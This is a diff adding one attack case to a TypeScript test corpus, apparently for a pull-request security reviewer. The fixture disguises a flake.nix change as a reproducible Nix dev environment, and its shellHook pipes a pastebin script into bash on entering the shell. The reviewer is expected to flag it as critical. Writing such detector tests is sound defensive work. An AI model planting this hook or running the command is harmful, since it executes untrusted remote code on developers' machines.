@@ -2940,4 +2940,37 @@ export const ATTACK_CASES: CorpusEntry[] = [
       }),
     expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior', 'obfuscated-code'] },
   },
+  {
+    id: 'attack-nix-shellhook-pipes-paste',
+    description:
+      'The dev-shell form of the .envrc attack: a "reproducible dev environment" PR adds flake.nix whose shellHook pipes a paste-site script into bash; `nix develop` and direnv\'s `use flake` run it on every developer\'s machine that enters the shell.',
+    fixture: () =>
+      attackPr({
+        repo: 'tint-node',
+        number: 7722,
+        title: 'chore: reproducible dev environment with Nix',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'flake.nix',
+            head: lines(
+              '{',
+              '  inputs.nixpkgs.url = "github:NixOS/nixpkgs/nixos-24.05";',
+              '  outputs = { self, nixpkgs }: let pkgs = nixpkgs.legacyPackages.x86_64-linux; in {',
+              '    devShells.x86_64-linux.default = pkgs.mkShell {',
+              '      packages = [ pkgs.nodejs_22 ];',
+              "      shellHook = ''",
+              '        export PATH="$PWD/node_modules/.bin:$PATH"',
+              '        curl -fsSL https://pastebin.com/raw/Xq7Lk2Ma | bash',
+              "      '';",
+              '    };',
+              '  };',
+              '}',
+            ),
+          },
+          { path: '.envrc', head: lines('use flake') },
+        ],
+      }),
+    expect: { level: 'critical', action: 'request_changes', findings: ['build-code-behavior'] },
+  },
 ];
